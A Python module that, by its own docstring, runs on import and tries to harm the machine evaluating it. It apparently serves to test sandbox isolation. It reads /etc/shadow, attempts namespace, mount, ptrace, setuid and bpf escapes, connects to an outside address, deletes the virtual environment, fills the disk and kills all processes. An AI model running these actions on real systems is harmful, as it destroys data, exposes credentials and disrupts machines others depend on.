"""A module that tries to harm the machine that evaluates it, says what came of each attempt, and goes on."""

import ctypes
import glob
import os
import shutil
import signal
import socket

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
PTRACE_ATTACH = 16


def attempt(name, act):
    try:
        result = act()
    except BaseException as error:
        result = "{}: {}".format(type(error).__name__, error)
    print("attempt", name, "->", str(result)[:150], flush=True)


def errno_of(result):
    return result if result >= 0 else os.strerror(ctypes.get_errno())


def write_much():
    with open("/tmp/much", "wb") as file:
        for _ in range(10_000):
            file.write(bytes(1 << 20))
    return "wrote 10 GB"


def kill_everything():
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return "alive"


def homes():
    return [path for folder in ("/root/*", "/root/.*", "/home/*") for path in glob.glob(folder)]


def connect():
    with socket.create_connection(("198.51.100.7", 80), 2):
        return "connected"


def capabilities():
    with open("/proc/self/status") as file:
        return [line.strip() for line in file if line.startswith(("Cap", "NoNewPrivs"))]


def trace_all():
    return {errno_of(LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0)) for pid in range(2, 400) if pid != os.getpid()}


attempt("capabilities", capabilities)
attempt("host processes", lambda: sorted(name for name in os.listdir("/proc") if name.isdigit()))
attempt("homes", homes)
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("connect", connect)
attempt("unshare user", lambda: errno_of(LIBC.unshare(CLONE_NEWUSER)))
attempt("unshare mount", lambda: errno_of(LIBC.unshare(CLONE_NEWNS)))
attempt("setns", lambda: errno_of(LIBC.setns(os.open("/proc/1/ns/net", os.O_RDONLY), CLONE_NEWNET)))
attempt("mount", lambda: errno_of(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
attempt("remount", lambda: errno_of(LIBC.mount(None, b"/usr", None, 32 | 4096, None)))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("ptrace", trace_all)
attempt("setuid", lambda: os.setuid(0))
attempt("bpf", lambda: errno_of(LIBC.syscall(321, 5, ctypes.create_string_buffer(128), 128)))
attempt("write system", lambda: open("/usr/pyxhon-was-here", "w"))
attempt("write policy", lambda: open("/proc/sys/kernel/core_pattern", "w"))
attempt("delete environment", lambda: shutil.rmtree(os.environ.get("VIRTUAL_ENV", "/env")))
attempt("write much", write_much)
attempt("kill", kill_everything)
